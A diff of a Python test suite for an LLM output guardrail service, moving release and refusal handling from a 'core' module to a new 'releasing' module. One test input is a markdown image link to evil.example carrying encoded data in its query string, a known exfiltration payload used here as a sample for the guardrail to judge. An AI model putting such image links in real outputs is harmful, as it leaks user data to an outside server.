@@ -22,7 +22,7 @@ from penstock.contracts.records import (
     Verdict,
 )  # fmt: skip
 
-from services.guardrails import core
+from services.guardrails import core, releasing
 from services.guardrails.findings import Reference
 from services.guardrails.policy import compile_policy
 from services.guardrails.reasons import REASONS
@@ -94,12 +94,14 @@ def screen_request(event: AdmittedRequest) -> list[Emit]:
 
 
 def release(event: Completion) -> tuple[LlmResult, list[Emit]]:
-    released = core.released(event, judged("output", core.output_segments(event), core.output_reference(event)))
+    released = releasing.released(
+        event, judged("output", releasing.output_segments(event), releasing.output_reference(event))
+    )
     assert released.result is not None
     return released.result, released.emits
 
 
-def outcome(released: core.Released) -> tuple[str, str | None, str]:
+def outcome(released: releasing.Released) -> tuple[str, str | None, str]:
     assert released.result is not None
     return released.result.status, released.result.code, released.result.content
 
@@ -201,24 +203,24 @@ def test_a_blocked_answer_carries_no_text(content: str, code: str) -> None:
 def test_an_answer_after_its_deadline_is_expired_whenever_it_is_looked_at() -> None:
     context = Context(requested_at=NOW, deadline_at=NOW - timedelta(seconds=1))
     late = completion("too late", context=context)
-    released = core.released(late, None)
+    released = releasing.released(late, None)
     assert outcome(released) == ("expired", "deadline_exceeded", "")
     assert released.emits == []
-    assert not core.has_answer(late)
+    assert not releasing.has_answer(late)
 
 
 def test_an_answer_without_a_policy_is_kept_back() -> None:
-    assert outcome(core.released(completion("text"), None)) == ("failed", "unknown_policy", "")
+    assert outcome(releasing.released(completion("text"), None)) == ("failed", "unknown_policy", "")
 
 
 def test_a_model_error_is_a_failed_result_that_keeps_the_usage() -> None:
-    released = core.released(completion("", error="the endpoint answered 500", finish_reason="error"), None)
+    released = releasing.released(completion("", error="the endpoint answered 500", finish_reason="error"), None)
     assert outcome(released) == ("failed", "model_error", "")
 
 
 def test_what_broke_off_at_its_deadline_is_expired() -> None:
     broken = completion("", error="the deadline passed", context=Context(requested_at=NOW, deadline_at=NOW))
-    assert outcome(core.released(broken, None)) == ("expired", "expired", "")
+    assert outcome(releasing.released(broken, None)) == ("expired", "expired", "")
 
 
 @pytest.mark.parametrize("attempt", [0, 1])
@@ -229,11 +231,11 @@ def test_a_result_counts_the_completions_of_its_request(attempt: int) -> None:
     ended = [
         release(made)[0],
         release(msgspec.structs.replace(made, content="![x](https://evil.example/p.png?d=" + "QUJD" * 20 + ")"))[0],
-        core.released(made, None).result,
-        core.released(msgspec.structs.replace(made, context=late), None).result,
-        core.released(msgspec.structs.replace(made, error="HTTP 500", content=""), None).result,
-        core.unjudged(made, NOW),
-        core.released_refusal(refusal(calls=attempt + 1), NOW),
+        releasing.released(made, None).result,
+        releasing.released(msgspec.structs.replace(made, context=late), None).result,
+        releasing.released(msgspec.structs.replace(made, error="HTTP 500", content=""), None).result,
+        releasing.unjudged(made, NOW),
+        releasing.released_refusal(refusal(calls=attempt + 1), NOW),
     ]
     assert [result and result.calls for result in ended] == [attempt + 1] * len(ended)
 
@@ -254,7 +256,7 @@ def test_a_request_that_is_blocked_has_no_completions() -> None:
 
 @pytest.mark.parametrize("status", list(Status))
 def test_a_refusal_becomes_the_result_of_its_status(status: Status) -> None:
-    result = core.released_refusal(refusal(status=status), NOW)
+    result = releasing.released_refusal(refusal(status=status), NOW)
     assert (result.status, result.stage, result.code, result.reason, result.prompt) == (
         status,
         "intake",
